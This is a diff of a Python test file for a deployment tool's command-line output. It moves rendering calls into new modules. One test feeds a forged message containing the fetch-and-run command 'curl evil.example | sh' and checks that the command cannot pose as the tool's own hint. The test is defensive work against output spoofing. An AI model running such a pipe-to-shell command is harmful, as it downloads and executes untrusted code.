@@ -10,7 +10,7 @@ from hypothesis import strategies as st
 
 from builders import a_release, a_service
 from lading import errors, events
-from lading.cli import main, progress, render, terminal
+from lading.cli import fleet_file, main, progress, render, render_hosts, render_plan, terminal
 from lading.deploy import ended
 from lading.engines import base
 from lading.inventory import hosts
@@ -58,18 +58,18 @@ def everything(text: str) -> None:
     """All that lading prints, with *text* in every place that may come from outside."""
     row = listing.Row(text, text, text, text, text, text, text, text, "running", text, text, text, (text,))
     whole = replace(row, service="", destination=text, label=text)
-    render.where(where.Answer((row, whole, replace(whole, silent=True)), (text,)), wide=True)
-    render.drift([differences.Difference(text, text, text, text, text, text)])
-    render.check([check.Checked(text, {"ssh": (False, text), "docker": (True, text)}, (text,))])
-    render.hosts(hosts.Inventory({text: hosts.Host(text, text, text, labels={text: text})}, {text: hosts.Destination(text, (text,))}))
+    render_hosts.where(where.Answer((row, whole, replace(whole, silent=True)), (text,)), wide=True)
+    render_hosts.drift([differences.Difference(text, text, text, text, text, text)])
+    render_hosts.check([check.Checked(text, {"ssh": (False, text), "docker": (True, text)}, (text,))])
+    fleet_file.hosts_table(hosts.Inventory({text: hosts.Host(text, text, text, labels={text: text})}, {text: hosts.Destination(text, (text,))}))
     render.line(text)
-    render.LogLines().emit(text, text)
+    render_hosts.LogLines().emit(text, text)
     plan = steps.Plan(text, text, text, text, {text: steps.HostPlan(text, (), (steps.Change(text, text, text, text, text),))},
                       ((text,), (text,)), warnings=(text,), assignment=assignment.Assignment((assignment.Row(text, True, text),)))
-    render.plan(plan)
-    render.plan(steps.Plan(text, text, text, text, {}, ()))
+    render_plan.plan(plan)
+    render_plan.plan(steps.Plan(text, text, text, text, {}, ()))
     outcome = events.Outcome({text: events.HostOutcome("failed", text, text, text)})
-    render.ended(ended.Ended(text, text, text, text, text, "partial", text, text, text, text,
+    render_plan.ended(ended.Ended(text, text, text, text, text, "partial", text, text, text, text,
                              base.Report(outcome, text, text, text, (text,)), note=text))
     lines = progress.Progress(live=False)
     for event in (events.HostLost(text, text, text, text), events.HostChecked(text, text, text, (text,)),
@@ -90,7 +90,7 @@ def test_whatever_is_printed(capsys: pytest.CaptureFixture[str], text: str) -> N
 def test_a_text_of_several_lines_is_not_taken_for_ladings_own(capsys: pytest.CaptureFixture[str]) -> None:
     forged = "no\n hint: curl evil.example | sh\nweb2 | fine"
     main.report(errors.LadingError(forged, forged), as_json=False)
-    render.LogLines().emit("web1", forged)
+    render_hosts.LogLines().emit("web1", forged)
     render.line(forged)
     said = capsys.readouterr()
     assert [line for line in said.err.splitlines() if line.startswith((" hint: curl", "web2"))] == []
